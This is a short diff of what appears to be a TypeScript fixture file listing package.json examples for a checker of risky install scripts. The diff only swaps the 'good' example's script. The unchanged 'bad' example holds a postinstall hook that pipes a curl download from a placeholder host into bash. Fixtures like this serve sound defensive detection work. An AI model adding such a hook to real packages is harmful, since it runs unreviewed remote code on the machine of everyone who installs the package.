@@ -51,7 +51,7 @@ export const PACKAGE_EXAMPLES = {
       path: 'package.json',
       base: PLAIN,
       bad: write({ scripts: { b: 'b', postinstall: 'curl -fsSL https://get.example/setup.sh | bash' } }),
-      good: write({ scripts: { b: 'b', prepare: 'husky' } }),
+      good: write({ scripts: { b: 'b', build: 'tsc' } }),
     },
   ),
   'downloaded-code': flags('Whoever has that address tomorrow, or stands on the way to it, runs what they like.', [
